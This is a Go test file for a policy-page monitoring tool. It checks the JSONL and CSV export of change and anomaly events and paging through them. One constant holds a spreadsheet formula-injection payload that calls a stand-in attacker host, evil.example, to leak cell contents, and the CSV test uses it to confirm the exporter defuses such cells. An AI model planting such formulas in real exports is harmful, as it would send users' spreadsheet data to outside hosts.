package archive_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/policywatch/policywatch/archive"
	"github.com/policywatch/policywatch/monitor"
)

// hostileDetail reads as a formula to a spreadsheet.
const hostileDetail = `=HYPERLINK("https://evil.example/?"&A1,"click")`

// historyRig is a database with a short imported history of testWatch
// (baseline, change, anomaly, recovered, revert), an event of another
// watch, and an anomaly whose summary and detail quote a hostile page.
func historyRig(t *testing.T) *rig {
	t.Helper()
	r := newRig(t)
	dir := t.TempDir()
	writeFile(t, dir, "2025-01-01.html", policyPage("1", 1))
	writeFile(t, dir, "2025-01-02.html", policyPage("1", 2))
	writeFile(t, dir, "2025-02-01T08-00-00Z.html", policyPage("2", 3, "We may use your public posts and photos to train our artificial intelligence models."))
	writeFile(t, dir, "2025-02-02.html", []byte(`<html><body><div id="policy"><h1>Something went wrong</h1><p>Sorry, something went wrong.</p></div></body></html>`))
	writeFile(t, dir, "2025-02-03.html", policyPage("1", 4))
	src, err := archive.OpenFolder(dir)
	if err != nil {
		t.Fatal(err)
	}
	r.importSource(t, testWatch, src)

	other := monitor.Watch{Name: "other-policy", URL: "https://other.example/policy", Fetcher: "http"}
	if _, err := r.checker.Ingest(context.Background(), other, &monitor.Body{
		Data: policyPage("9", 0), ContentType: "text/html", URL: other.URL, Status: 200, FetchedAt: mustTime(t, "2025-03-01T00:00:00Z"),
	}); err != nil {
		t.Fatal(err)
	}

	// A record as a check of a hostile page could leave it.
	state, err := r.db.State(context.Background(), testWatch)
	if err != nil {
		t.Fatal(err)
	}
	at := mustTime(t, "2025-03-02T00:00:00Z")
	if _, err := r.db.RecordCheck(context.Background(), &monitor.CheckRecord{
		Watch: testWatch, BaseSeq: state.Seq, Started: at, Finished: at, Fetcher: "http", Outcome: monitor.OutcomeAnomaly,
		Episode: &monitor.Episode{Kind: monitor.KindAnomaly, Reason: monitor.ReasonErrorPage, Since: at, Checks: 1},
		Events: []monitor.Event{{
			Watch: testWatch.Name, Time: at, Kind: monitor.KindAnomaly, Severity: monitor.SeverityNotable,
			Summary: "-1+1 " + hostileDetail, Reason: monitor.ReasonErrorPage, Detail: hostileDetail,
		}},
	}); err != nil {
		t.Fatal(err)
	}
	return r
}

func TestWriteEventsJSONL(t *testing.T) {
	r := historyRig(t)
	var out bytes.Buffer
	n, err := archive.WriteEventsJSONL(context.Background(), r.db, monitor.EventFilter{}, &out)
	if err != nil {
		t.Fatal(err)
	}
	stored, err := r.db.Events(context.Background(), monitor.EventFilter{})
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	if n != len(stored) || len(lines) != len(stored) || n != 7 {
		t.Fatalf("wrote %d events in %d lines; the database has %d, want 7", n, len(lines), len(stored))
	}
	for i, line := range lines {
		var e monitor.Event
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		want, _ := json.Marshal(stored[i])
		if got, _ := json.Marshal(e); string(got) != string(want) || line != string(want) {
			t.Errorf("line %d:\n got %s\nwant %s", i+1, line, want)
		}
	}

	out.Reset()
	if n, err := archive.WriteEventsJSONL(context.Background(), r.db, monitor.EventFilter{Watch: "other-policy"}, &out); err != nil || n != 1 || !strings.Contains(out.String(), `"watch":"other-policy"`) {
		t.Errorf("one watch: %d events, %v:\n%s", n, err, out.String())
	}
}

func TestEachEventPages(t *testing.T) {
	r := historyRig(t)
	all, err := r.db.Events(context.Background(), monitor.EventFilter{})
	if err != nil {
		t.Fatal(err)
	}
	ids := func(f monitor.EventFilter, page int) string {
		var got []int64
		if _, err := archive.EachEvent(context.Background(), r.db, f, page, func(e monitor.Event) error {
			got = append(got, e.ID)
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		return fmt.Sprint(got)
	}
	var want []int64
	for _, e := range all {
		want = append(want, e.ID)
	}
	for _, page := range []int{1, 2, 3, 500} {
		if got := ids(monitor.EventFilter{}, page); got != fmt.Sprint(want) {
			t.Errorf("page size %d: %s, want %v", page, got, want)
		}
		if got := ids(monitor.EventFilter{Limit: 5, Descending: true}, page); got != fmt.Sprint(want[:5]) {
			t.Errorf("page size %d, limit 5: %s, want %v", page, got, want[:5])
		}
		if got := ids(monitor.EventFilter{AfterID: want[2]}, page); got != fmt.Sprint(want[3:]) {
			t.Errorf("page size %d, after %d: %s, want %v", page, want[2], got, want[3:])
		}
	}
}

func TestWriteEventsCSV(t *testing.T) {
	r := historyRig(t)
	var out bytes.Buffer
	n, err := archive.WriteEventsCSV(context.Background(), r.db, monitor.EventFilter{Watch: testWatch.Name}, &out)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if fmt.Sprint(rows[0]) != fmt.Sprint(archive.CSVHeader) {
		t.Errorf("header %v", rows[0])
	}
	if n != 6 || len(rows) != 7 {
		t.Fatalf("%d events, %d rows; want 6 and a header", n, len(rows))
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	var got []string
	for _, row := range rows[1:] {
		got = append(got, strings.Join([]string{row[col["time"]], row[col["kind"]], row[col["version"]], row[col["previous_version"]], row[col["imported"]]}, " "))
	}
	want := []string{
		"2025-01-01T00:00:00Z baseline 1  true",
		"2025-02-01T08:00:00Z change 2 1 true",
		"2025-02-02T00:00:00Z anomaly   true",
		"2025-02-03T00:00:00Z recovered   true",
		"2025-02-03T00:00:00Z revert 1 2 true",
		"2025-03-02T00:00:00Z anomaly   false",
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("rows:\n got %q\nwant %q", got, want)
	}
	change := rows[2]
	if change[col["words_added"]] == "" || change[col["words_added"]] == "0" || change[col["purposes_added"]]+change[col["scope_added"]] == "" {
		t.Errorf("change row lacks its counts or analysis: %q", change)
	}
	hostile := rows[6]
	if hostile[col["detail"]] != "'"+hostileDetail || !strings.HasPrefix(hostile[col["summary"]], "'-1+1") {
		t.Errorf("hostile cells not defused: summary %q, detail %q", hostile[col["summary"]], hostile[col["detail"]])
	}
	for _, row := range rows[1:] {
		if _, err := time.Parse(time.RFC3339Nano, row[col["time"]]); err != nil {
			t.Errorf("time %q: %v", row[col["time"]], err)
		}
	}
}
